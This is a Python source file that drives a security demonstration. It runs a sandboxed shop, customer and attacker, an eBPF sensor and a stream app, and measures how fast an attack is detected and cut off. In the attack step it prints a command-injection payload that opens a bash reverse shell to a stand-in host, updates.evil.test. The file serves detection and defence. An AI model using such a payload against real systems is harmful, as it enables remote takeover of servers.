# SPDX-License-Identifier: Apache-2.0
"""The story on a real kernel: build the scene, let it run, attack, watch the cut, draw the balance.

Everything that is started is ended here, in reverse order, whatever happens. What the report says is
taken from the topics (observer.py), from the attacker's own log and from the client's own counts.
"""

from __future__ import annotations

import json
import os
import signal
import tempfile
import threading
import time
from contextlib import ExitStack
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

from demo import services
from demo.cgroups import Cgroups, PodIdentity, pod_identity
from demo.network import Network
from demo.observer import Observer
from demo.processes import start_workload, stop, wait_until
from demo.recording import save
from demo.report import Report, Times
from stream_apps.correlate.ledger import LossLedger

if TYPE_CHECKING:
    import subprocess

    from demo.screen import Screen

ADDRESSES = {"web": "10.77.0.10", "client": "10.77.0.20", "dns": "10.77.0.53", "attacker": "10.77.0.66"}
SHOP_PORT, SHELL_PORT, BEACON_PORT = 8080, 4444, 4445
ZONE = ("shop.demo.test=10.77.0.10", "updates.evil.test=@cdn.evil.test", "cdn.evil.test=10.77.0.66")
BENIGN_S = 4.0
SILENCE_S = 3.0
START_TIMEOUT_S = 60.0
CUT_TIMEOUT_S = 30.0


@dataclass(slots=True)
class Reader:
    """Reads a process's JSON lines in a thread, so that its pipe never fills."""

    process: subprocess.Popen[str]
    lines: list[dict[str, Any]] = field(default_factory=list)

    def start(self) -> Reader:
        """Start reading."""
        threading.Thread(target=self._run, daemon=True).start()
        return self

    def _run(self) -> None:
        for line in self.process.stdout or ():
            self.lines.append(json.loads(line))

    def has(self, event: str) -> bool:
        """Return whether a line with this event was read."""
        return any(line.get("event") == event for line in self.lines)


class Story:
    """One run; ``play`` tells it once and returns the report."""

    def __init__(self, screen: Screen, build: Path) -> None:
        """Plan a run that writes under ``build``."""
        self._screen = screen
        self._build = build
        self._run_id = os.getpid()
        self._pods: dict[str, PodIdentity] = {
            name: pod_identity(self._run_id, name) for name in ("web", "client")
        }
        self._stack = ExitStack()
        self._watched: dict[str, subprocess.Popen[str]] = {}
        self._network = Network(self._run_id, ADDRESSES)

    def play(self) -> Report:
        """Tell the story.

        Raises:
            DemoError: a part did not start, ended early or did not end.
        """
        with self._stack:
            directory = Path(self._stack.enter_context(tempfile.TemporaryDirectory(prefix="nsp-demo-")))
            workspace = services.Workspace(directory, self._build)
            self._stack.enter_context(self._network)
            cgroups = self._stack.enter_context(Cgroups(self._run_id))
            names = {pod.uid: name for name, pod in self._pods.items()}
            brokers = self._start_pipeline(workspace, cgroups)
            observer = self._stack.enter_context(Observer(brokers, names))
            attacker, customer = self._start_workloads(workspace, cgroups, observer)
            self._benign(observer, customer)
            self._attack(observer, attacker)
            self._silence(observer, customer)
            stop(customer.process, "benign client")
            self._end_pipeline(observer)
            report = self._balance(observer, attacker, customer)
            self._record(observer)
            return report

    def _start_pipeline(self, workspace: services.Workspace, cgroups: Cgroups) -> str:
        say = self._screen.step
        say("starting the embedded broker (librdkafka's mock cluster: one broker, in memory)")
        broker, brokers = services.start_broker(workspace)
        self._watch("embedded broker", broker)
        services.prepare(workspace, brokers, self._pods, ADDRESSES)
        say("starting the stream app (Faust): correlate, detect, respond")
        self._watch("stream app", services.start_stream(workspace))
        say("starting the sensor: compile, load, attach, pin (a few seconds)")
        pins = f"/sys/fs/bpf/nsp-demo-{self._run_id}"
        self._stack.callback(services.unload, pins)
        self._watch("sensor", services.start_sensor(workspace, brokers, cgroups.root, pins))
        wait_until("the sensor's first health", services.sensor_is_healthy, START_TIMEOUT_S, self._watched)
        wait_until("the stream app's first health", services.stream_is_healthy, START_TIMEOUT_S, self._watched)
        return brokers

    def _watch(self, name: str, process: subprocess.Popen[str]) -> None:
        self._watched[name] = process
        self._stack.callback(self._end, name, process)

    def _end(self, name: str, process: subprocess.Popen[str]) -> None:
        self._watched.pop(name, None)
        if process.poll() is None:
            stop(process, name)

    def _start_workloads(
        self, workspace: services.Workspace, cgroups: Cgroups, observer: Observer
    ) -> tuple[Reader, Reader]:
        resolver = workspace.directory / "resolv.conf"
        resolver.write_text(f"nameserver {ADDRESSES['dns']}\noptions timeout:1 attempts:3\n")
        hosts = self._network.hosts
        log = self._stack.enter_context(workspace.log("workloads").open("w"))
        homes = {name: cgroups.add_pod(pod) for name, pod in self._pods.items()}
        self._screen.step("starting a name server, the shop, its customer, and the attacker's host")

        def start(host: str, *arguments: str) -> Reader:
            home = homes.get(host, cgroups.outside)
            process = start_workload(hosts[host], home, resolver, arguments, log)
            self._watch(f"workload {host}", process)
            return Reader(process).start()

        start("dns", "dns_server.py", ADDRESSES["dns"], *ZONE)
        start("web", "web_service.py", str(SHOP_PORT))
        web = self._pods["web"].uid
        wait_until("the shop to listen", lambda: _listens(observer, web), START_TIMEOUT_S, self._watched)
        customer = start("client", "benign_client.py", "shop.demo.test", str(SHOP_PORT))
        shop = f"http://{ADDRESSES['web']}:{SHOP_PORT}"
        attacker = start("attacker", "attacker.py", str(SHELL_PORT), str(BEACON_PORT), shop, "updates.evil.test")
        wait_until("the attacker to listen", lambda: attacker.has("listening"), START_TIMEOUT_S, self._watched)
        wait_until("the first customer", lambda: bool(customer.lines), START_TIMEOUT_S, self._watched)
        return attacker, customer

    def _benign(self, observer: Observer, customer: Reader) -> None:
        self._screen.step("benign traffic: the customer uses the shop; its report page even starts shells")
        self._show_for(observer, BENIGN_S)
        last = customer.lines[-1]
        self._screen.step(
            f"{last['requests']} requests, {last['failed']} failed, {len(observer.read().alerts)} alerts: nothing to see"
        )

    def _attack(self, observer: Observer, attacker: Reader) -> None:
        self._screen.step("the attacker sends one request to the report page:", "bold red")
        self._screen.step(
            "  /report?title=x; (bash -c 'bash -i >& /dev/tcp/updates.evil.test/4444 0>&1' &)", "red"
        )
        stdin = attacker.process.stdin
        if stdin is not None:
            stdin.write("go\n")
            stdin.flush()
        self._show_until(observer, "an alert", lambda: observer.first_alert() is not None)
        alert = observer.first_alert() or {}
        self._screen.step(f"DETECTED  {alert['rule_id']} {alert['severity']}: {alert['description']}", "bold yellow")
        self._screen.process_tree(alert["lineage"])
        self._show_until(observer, "the acknowledgement", lambda: observer.status("APPLIED") is not None)
        applied = observer.status("APPLIED") or {}
        self._screen.step(
            f"CUT       the sensor wrote the kernel map: {applied['processes']} processes, "
            f"{applied['sockets']} open sockets; the shop's own process is not among them",
            "bold green",
        )
        self._show_until(observer, "a refusal", lambda: observer.status("FIRST_REFUSAL") is not None)
        self._screen.times(self._times(observer))

    def _silence(self, observer: Observer, customer: Reader) -> None:
        before = customer.lines[-1]["requests"]
        self._screen.step("the attacker keeps typing into the open shell, the implant keeps dialling ...")
        self._show_for(observer, SILENCE_S)
        last = customer.lines[-1]
        self._screen.step(
            f"... and gets nothing. Meanwhile the shop answered {last['requests'] - before} more requests, "
            f"{last['failed']} failed"
        )

    def _show_for(self, observer: Observer, seconds: float) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            self._tick(observer)

    def _show_until(self, observer: Observer, what: str, condition: services.Condition) -> None:
        def shown() -> bool:
            self._tick(observer)
            return condition()

        wait_until(what, shown, CUT_TIMEOUT_S, self._watched)

    def _tick(self, observer: Observer) -> None:
        self._screen.events(observer.take_lines())
        seen = observer.read()
        self._screen.facts(f"{seen.events} events, {len(seen.alerts)} alerts, {seen.refusals} refusals")
        time.sleep(0.02)

    def _end_pipeline(self, observer: Observer) -> None:
        """Stop the sensor gracefully and wait until what it sent last has been read."""
        self._screen.step("stopping the sensor: it drains the ring; enforcement would stay in the kernel")
        sensor = self._watched.pop("sensor")
        sensor.send_signal(signal.SIGTERM)
        stop(sensor, "sensor")
        quiet_since, count = time.monotonic(), -1
        while time.monotonic() - quiet_since < 1.0:
            if observer.read().events != count:
                quiet_since, count = time.monotonic(), observer.read().events
            time.sleep(0.05)

    def _times(self, observer: Observer) -> Times:
        applied, refused = observer.status("APPLIED") or {}, observer.status("FIRST_REFUSAL") or {}
        offset = time.time_ns() - time.clock_gettime_ns(time.CLOCK_BOOTTIME)
        return Times(
            applied["evidence_boot_ns"],
            applied["issued_at_ns"] - offset,
            applied["applied_boot_ns"],
            refused["first_refused_boot_ns"],
        )

    def _balance(self, observer: Observer, attacker: Reader, customer: Reader) -> Report:
        times = self._times(observer)
        seen = observer.read()
        ledger = LossLedger()
        for batch in seen.batches:
            ledger.add(batch)
        totals = ledger.totals()
        offset = time.time_ns() - time.clock_gettime_ns(time.CLOCK_BOOTTIME)
        blocked_at = times.map_written_ns + offset
        arrived = [(line["at_wall_ns"], line["bytes"]) for line in attacker.lines if "bytes" in line]
        beacons = [line["at_wall_ns"] for line in attacker.lines if line.get("event") == "beacon"]
        return Report(
            alerts=len(seen.alerts),
            rules=sorted({alert["rule_id"] for alert in seen.alerts.values()}),
            time_to_block_ms=times.after_first_ms(times.map_written_ns),
            decided_after_ms=times.after_first_ms(times.decided_ns),
            first_refused_after_ms=times.after_first_ms(times.first_refused_ns),
            service_requests=customer.lines[-1]["requests"],
            service_requests_failed=customer.lines[-1]["failed"],
            attacker_bytes_before_block=sum(size for at, size in arrived if at <= blocked_at),
            attacker_bytes_after_block=sum(size for at, size in arrived if at > blocked_at),
            attacker_beacons_after_block=sum(at > blocked_at for at in beacons),
            events_produced=totals.produced,
            events_seen=totals.seen,
            events_counted_lost=totals.lost,
            events_unaccounted=totals.unaccounted,
            recorded=False,
        )

    def _record(self, observer: Observer) -> None:
        path = self._build / "recording.avro"
        workloads = frozenset(pod.uid for pod in self._pods.values())
        size = save(path, observer.read().batches, workloads, Path(__file__).parent.parent)
        self._screen.step(f"recorded the run's events: {path} ({size // 1024} KiB)")


def _listens(observer: Observer, workload_id: str) -> bool:
    for batch in observer.read().batches:
        for name, event in batch["events"]:
            if name == "nsp.SocketListen":
                process = batch["processes"][event["process"]]
                if batch["workloads"][process["workload"]]["id"] == workload_id:
                    return True
    return False
